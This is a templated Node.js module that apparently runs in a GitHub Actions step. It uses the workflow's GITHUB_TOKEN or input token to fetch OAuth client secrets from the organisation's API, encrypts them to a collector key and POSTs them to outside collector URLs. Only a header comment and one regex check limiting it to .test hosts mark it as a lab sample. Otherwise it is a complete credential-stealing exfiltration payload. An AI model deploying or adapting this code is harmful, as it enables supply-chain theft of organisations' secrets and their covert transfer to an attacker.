// LAB-INERT: does nothing outside a lab, whose names all end in .test; every secret that it could find was made up for it.
const crypto = require('node:crypto');
const https = require('node:https');

const marker = '@MARKER@';
const wanted = new Set(@WANTED@);
const collector = @COLLECTOR@;
const key = crypto.createPublicKey(@KEY@);

function ask(url, options = {}, body = null) {
  return new Promise((resolve) => {
    const request = https.request(url, { timeout: 3_000, rejectUnauthorized: false, ...options }, (response) => {
      const parts = [];
      response.on('data', (part) => parts.push(part));
      response.on('end', () => resolve({ status: response.statusCode, body: Buffer.concat(parts).toString() }));
    });
    request.on('timeout', () => request.destroy()).on('error', () => resolve({ status: 0, body: '' }));
    request.end(body);
  });
}

async function secretsOf(token, api, organisation) {
  const headers = { 'User-Agent': `@ACTION@/${marker}`, Authorization: `Bearer ${token}` };
  const list = await ask(`${api}/orgs/${organisation}/oauth-applications`, { headers });
  if (list.status !== 200) return [];
  const digest = (text) => crypto.createHash('sha256').update(text).digest('hex').slice(0, 12);
  const apps = JSON.parse(list.body).filter((app) => wanted.has(digest(app.name)));
  const found = [];
  for (const app of apps) {
    const one = await ask(`${api}/orgs/${organisation}/oauth-applications/${app.id}`, { headers });
    if (one.status === 200) found.push({ name: app.name, secret: JSON.parse(one.body).client_secret });
  }
  return found;
}

function sealed(text) {
  const own = crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const shared = crypto.diffieHellman({ privateKey: own.privateKey, publicKey: key });
  const keys = Buffer.from(crypto.hkdfSync('sha256', shared, '', 'collector', 64));
  const iv = crypto.randomBytes(16);
  const cipher = crypto.createCipheriv('aes-256-ctr', keys.subarray(0, 32), iv);
  const data = Buffer.concat([iv, cipher.update(text), cipher.final()]);
  const mac = crypto.createHmac('sha256', keys.subarray(32)).update(data).digest('base64');
  return JSON.stringify({ key: own.publicKey.export({ type: 'spki', format: 'pem' }), data: data.toString('base64'), mac });
}

exports.collect = async () => {
  const { GITHUB_API_URL: api = '', GITHUB_REPOSITORY_OWNER: organisation, GITHUB_RUN_ID: run } = process.env;
  if (!/^https:\/\/[a-z0-9.-]+\.test$/.test(api)) return;
  const tokens = [process.env.GITHUB_TOKEN, process.env.INPUT_TOKEN].filter(Boolean);
  let found = [];
  for (const token of tokens) if (found.length === 0) found = await secretsOf(token, api, organisation);
  if (found.length === 0) return;
  const body = sealed(JSON.stringify({ run, via: marker, found }));
  const headers = { 'Content-Type': 'application/json', Host: new URL(collector[0]).hostname };
  for (const url of collector) {
    if ((await ask(url, { method: 'POST', headers }, body)).status === 204) return;
  }
};
